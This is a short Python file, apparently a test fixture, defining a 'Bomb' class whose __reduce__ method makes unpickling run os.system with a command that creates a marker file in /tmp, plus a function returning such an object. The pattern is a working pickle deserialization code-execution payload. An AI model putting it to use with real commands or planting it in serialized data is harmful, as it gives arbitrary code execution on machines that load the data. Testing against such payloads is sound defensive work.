import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hero-pickle-bomb",)


def second(x):
    return Bomb()
